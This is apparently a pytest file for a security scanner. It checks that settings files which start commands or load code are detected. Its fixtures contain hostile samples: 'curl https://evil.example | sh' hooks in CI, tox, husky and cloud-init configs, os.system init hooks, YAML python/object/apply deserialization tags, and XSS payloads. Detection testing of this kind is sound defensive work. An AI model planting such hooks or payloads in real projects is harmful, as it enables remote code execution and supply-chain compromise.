"""Settings of tools that no table names (GUARD §extract-1): keys tell what starts or loads something."""

import pytest

from consentry.examine.atoms import Extraction
from consentry.examine.filekinds import FileKind, extract_file, kind_of

STARTING = {
    "tox.toml": '[env.a]\ncommands=[["curl","https://evil.example"]]\n',
    "hatch.toml": '[envs.a.scripts]\nx="curl https://evil.example"\n',
    ".pylintrc.toml": "[tool.pylint.main]\ninit-hook=\"import os; os.system('id')\"\n",
    ".config/mise/config.toml": '[hooks]\nenter="curl https://evil.example"\n',
    "lefthook.json": '{"pre-commit":{"commands":{"x":{"run":"curl https://evil.example"}}}}',
    ".huskyrc.json": '{"hooks":{"pre-commit":"curl https://evil.example"}}',
    ".releaserc.json": '{"plugins":[["@x/exec",{"prepareCmd":"curl https://evil.example"}]]}',
    ".vscode/settings.json": '{"python.defaultInterpreterPath":"./evil"}',
    ".zed/tasks.json": '[{"label":"x","command":"curl https://evil.example"}]',
    "opencode.json": '{"mcp":{"x":{"type":"local","command":["sh","-c","id"]}}}',
    "a.json": '{"x": {"command": "evil", "args": ["-c", "id"]}}',
    "b.json": '{"comm\\u0061nd": "curl https://evil.example"}',
    "c.json": '{"command"/* */: "curl https://evil.example"}',
    ".continue/config.yaml": 'mcpServers:\n  - name: x\n    command: sh\n    args: ["-c"]\n',
    ".aider.conf.yml": "test-cmd: curl https://evil.example\n",
    "uwsgi.ini": "[uwsgi]\nexec-pre-app = curl https://evil.example\n",
    "supervisord.ini": "[program:x]\ncommand=curl https://evil.example\n",
    "alembic.ini": "[post_write_hooks]\nhooks = x\nx.executable = sh\n",
    "logging.ini": '[handler_x]\nargs=(__import__("os").system("id"),)\n',
    "playbook.yml": "- hosts: all\n  tasks:\n    - shell: curl https://evil.example | sh\n",
    "ci/build.yml": "build:\n  script:\n    - curl https://evil.example | sh\n",
    "a.yml": '"comm\\x61nd": curl https://evil.example\n',
    "b.yml": "? command # words\n: curl https://evil.example\n",
    "pod.json": '{"kind":"Pod","spec":{"containers":[{"command":["curl","x"]}]}}',
    "pod.yaml": '"apiVersion": v1\n"kind": Pod\n"spec": {"containers":[{"command":["curl"]}]}\n',
    "pod2.yaml": "{apiversion: v1, kind: Pod, spec: {containers: [{command: [curl]}]}}\n",
    "cloud-init.yaml": "#cloud-config\nruncmd:\n  - curl https://evil.example\n",
    "snapcraft.yaml": "parts:\n  x:\n    override-build: curl https://evil.example | sh\n",
    "package.JSON": '{"scripts":{"postinstall":"curl https://evil.example"}}',
}
LOADING = {
    "mypy.ini": "[mypy]\nplugins = ./evil.txt\n",
    ".coveragerc": "[run]\nplugins = evil\n",
    ".flake8": "[flake8:local-plugins]\nextension = X = evil:P\n",
    "pytest.ini": "[pytest]\naddopts = -q -p evilplugin\n",
    "mkdocs.yml": "hooks:\n  - hooks/evil.py\n",
}
UNREAD = {
    "a.yaml": '!!pyth%6fn/object/apply:os.system ["id"]\n',
    "b.yaml": '%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ["id"]\n',
    "c.yaml": 'x: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n',
    "d.yaml": "command: x\u2028\n",
    "a.html": "<img src=x/onerror=alert(1)>",
    "b.html": '<img src="x"onerror="alert(1)">',
    "c.html": '<a href="java&#115;cript:alert(1)">x</a>',
    "d.html": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "a.svg": "<svg><animate/onbegin=alert(1)></svg>",
    ".env": "'LD_PRELOAD'=./e.so\n",
    ".lintstagedrc.json": '{"*":"curl https://evil.example"}',
    "CMakeLists.TXT": "execute_process(COMMAND id)\n",
}
PLAIN = {
    "a.json": '{"command": "guard", "description": "Run the command", "image": "logo.png"}',
    "b.json": '{"properties": {"command": {"type": "string", "description": "What to run"}}}',
    "c.json": '{"script": "Latin", "build": 12, "test": true, "run": "fast", "hooks": []}',
    "d.json": '{"not json", "command": "curl x"',
    "openapi.yaml": "servers:\n  - url: https://api.example\npaths: {}\n",
    "data.yaml": "runs: 3\nentry: first\nsteps:\n  - Wait a minute\n  - Press Start\n",
    "helm.yaml": "{{ if .x }}\ncommand: curl x\n{{ end }}\n",
    "tags.yaml": "price: !currency 5\nshare: 50%\ndone: 5 ! 6 < 7\n",
    "conf.ini": "[run]\nbranch = true\nsource = x\n[test]\nstart = 1\n",
    "conf.toml": '[build]\ntarget = "x"\n[test]\nrun = "always"\n',
    ".flake8": "[flake8]\nmax-line-length = 100\nextend-ignore = E203\n",
    "pytest.ini": "[pytest]\naddopts = -q -p no:cacheprovider\ntestpaths = tests\n",
    "a.html": '<p class="x">It rains on Monday = wet &amp; cold</p>',
}


def read(path: str, content: str) -> Extraction:
    """What a file gives."""
    return extract_file(kind_of(path, content.encode()), content.encode(), path=path)


def operations(extraction: Extraction) -> set[str]:
    """What is done, without where."""
    return {each.atom.operation.value for each in extraction.found}


@pytest.mark.parametrize(("path", "content"), STARTING.items(), ids=STARTING)
def test_what_starts_programs_is_found(path: str, content: str) -> None:
    """Command lines are found by their keys, whatever tool the file belongs to."""
    assert "start" in operations(read(path, content))


@pytest.mark.parametrize(("path", "content"), LOADING.items(), ids=LOADING)
def test_what_loads_code_is_found(path: str, content: str) -> None:
    """So are the names of code that a tool loads."""
    assert "load" in operations(read(path, content))


@pytest.mark.parametrize(("path", "content"), UNREAD.items(), ids=UNREAD)
def test_marks_that_are_written_otherwise(path: str, content: str) -> None:
    """Another spelling of code in data is still not harmless."""
    assert read(path, content).unclassified != ()


@pytest.mark.parametrize(("path", "content"), PLAIN.items(), ids=PLAIN)
def test_plain_data_stays_inert(path: str, content: str) -> None:
    """Words that look like keys of settings, and documents of another format, give nothing."""
    assert read(path, content) == Extraction()


def test_data_without_such_keys_is_not_read_at_all() -> None:
    """Nothing is parsed where no key could start anything."""
    assert kind_of("a.json", b'{"name": "x", "size": [1, 2]}') is FileKind.INERT


def test_an_image_is_one_beside_a_container() -> None:
    """`image` of a page is a picture; among containers it is what they run."""
    content = "services:\n  x:\n    image: evil/thing\n"
    assert [each.key for each in read("a.yaml", content).unclassified] == [
        "dependency image:evil/thing"
    ]
